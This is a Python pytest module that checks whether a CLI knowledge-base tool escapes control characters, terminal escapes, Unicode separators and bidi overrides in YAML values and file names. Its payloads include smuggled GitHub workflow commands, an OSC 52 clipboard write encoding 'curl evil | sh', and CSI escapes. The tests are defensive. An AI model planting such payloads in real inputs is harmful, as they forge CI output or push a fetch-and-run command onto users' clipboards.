"""Class 7: output channels cannot be forged. Newlines, carriage returns, terminal escapes
(OSC 52 clipboard writes, CSI, C1 controls), Unicode line separators and bidi overrides from
YAML values and file names are neutralised in every text output, so a value can neither
start a GitHub workflow command (`::error`, `::add-mask::`) nor drive the terminal; SARIF
URIs are percent-encoded."""

from __future__ import annotations

import json
import re
from pathlib import Path
from urllib.parse import unquote

import pytest
from conftest import BASE_KB, copy_kb
from trust_cli import kb, no_traceback

# YAML double-quoted escapes: each decodes to a control or separator character
PAYLOADS = {
    "newline-command": "x\\n::error file=a,line=1::forged",
    "cr-mask": "x\\r::add-mask::secret",
    "osc52-clipboard": "x\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a",
    "csi-clear": "x\\e[2J\\e[H",
    "c1-csi": "x\\x9b31m red",
    "line-separator": "x\\L::error::forged",
    "paragraph-separator": "x\\P::warning::forged",
    "next-line": "x\\N::notice::forged",
    "bidi-override": "x\\u202Eevil",
    "nul-and-bell": "x\\0\\a",
    "vertical-tab": "x\\v::error::forged",
}
BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def _kb_with(tmp_path: Path, payload: str) -> Path:
    root = copy_kb(BASE_KB, tmp_path / "kb")
    card = root / "cards/queue-stuck.yaml"
    text = card.read_text()
    for field in ("title", "summary", "owner"):
        text = re.sub(rf"^{field}: .*$", lambda _m, f=field: f'{f}: "{payload}"', text, count=1, flags=re.M)
    text = text.replace("do: Resume the paused consumers", f'do: "{payload}"')
    text = text.replace('run: "queuectl resume-consumers dispatch"', f'run: "{payload}"')
    text = text.replace("rotation: sre-primary", f'rotation: "{payload}"')  # a finding quotes it
    card.write_text(text)
    pm = root / "postmortems/PM-2026-001-queue.yaml"
    pm.write_text(
        pm.read_text().replace("status: draft\n", "status: review\n")
        + "reinforcements:\n  - id: R1\n    kind: test\n"
        + f'    owner: "{payload}"\n    due: 2026-11-01\n    status: open\n'
        + f'    test: {{name: "{payload}", path: t.py, asserts: "{payload}"}}\n'
    )
    return root


def _assert_clean(output: str, allow_commands: bool = False) -> None:
    assert not BAD.search(output), repr(BAD.search(output).group())
    for line in output.splitlines():
        if allow_commands and re.match(r"::(error|warning|notice) file=", line):
            continue
        assert not line.lstrip().startswith("::"), line


COMMANDS = [
    ["check", "--select", "KB1"],
    ["check", "--format", "github", "--select", "KB1"],
    ["show", "queue-stuck"],
    ["route", "QueueStalled", "--show"],
    ["followups"],
    ["access"],
    ["access", "queue-stuck"],
]


# every payload through check (text, github) and show; the five sharpest through the rest
CORE = {"newline-command", "osc52-clipboard", "line-separator", "c1-csi", "bidi-override"}
MATRIX = [(name, args) for name in sorted(PAYLOADS) for args in COMMANDS if name in CORE or args in COMMANDS[:3]]


@pytest.mark.parametrize("name,args", MATRIX, ids=[f"{n}-{' '.join(a)}" for n, a in MATRIX])
def test_values_cannot_forge_output(tmp_path: Path, name: str, args: list[str]):
    root = _kb_with(tmp_path, PAYLOADS[name])
    result = kb(*args, cwd=root, env={"KB_NO_CACHE": "1"})
    no_traceback(result)
    _assert_clean(result.stdout, allow_commands="github" in args)
    _assert_clean(result.stderr)


@pytest.mark.parametrize(
    "file_name",
    ["a\n::error::forged.yaml", "a\r::add-mask::x.yaml", "a\x1b]52;c;eA==\x07.yaml", "a\u2028::error::x.yaml"],
)
@pytest.mark.parametrize("fmt", ["text", "github"])
def test_file_names_cannot_forge_output(tmp_path: Path, file_name: str, fmt: str):
    root = copy_kb(BASE_KB, tmp_path / "kb")
    (root / "cards" / file_name).write_text("id: [unclosed\n")
    result = kb("check", "--format", fmt, "--select", "KB1", cwd=root, env={"KB_NO_CACHE": "1"})
    no_traceback(result)
    assert result.returncode == 1
    _assert_clean(result.stdout, allow_commands=fmt == "github")


@pytest.mark.parametrize("file_name", ["a b.yaml", "100%.yaml", "x#frag.yaml", "q?x=1.yaml", "bäd.yaml", "a%20b.yaml"])
def test_sarif_uris_are_percent_encoded(tmp_path: Path, file_name: str):
    root = copy_kb(BASE_KB, tmp_path / "kb")
    (root / "cards" / file_name).write_text("id: [unclosed\n")
    result = kb("check", "--format", "sarif", "--select", "KB1", cwd=root, env={"KB_NO_CACHE": "1"})
    no_traceback(result)
    sarif = json.loads(result.stdout)
    uris = [
        loc["physicalLocation"]["artifactLocation"]["uri"]
        for run in sarif["runs"]
        for res in run["results"]
        for loc in res["locations"]
    ]
    assert uris
    for uri in uris:
        assert re.fullmatch(r"[A-Za-z0-9\-._~/%!$&'()*+,;=:@]*", uri), uri
    assert f"cards/{file_name}" in {unquote(u) for u in uris}


@pytest.mark.parametrize("fmt", ["json", "sarif"])
@pytest.mark.parametrize("name", ["c1-csi", "line-separator", "bidi-override", "osc52-clipboard"])
def test_json_output_stays_valid_json_and_keeps_the_value(tmp_path: Path, name: str, fmt: str):
    root = _kb_with(tmp_path, PAYLOADS[name])
    result = kb("check", "--format", fmt, "--select", "KB1", cwd=root, env={"KB_NO_CACHE": "1"})
    no_traceback(result)
    assert not BAD.search(result.stdout)
    json.loads(result.stdout)  # escaped as \uXXXX: a JSON reader gets the value back, a terminal sees no control
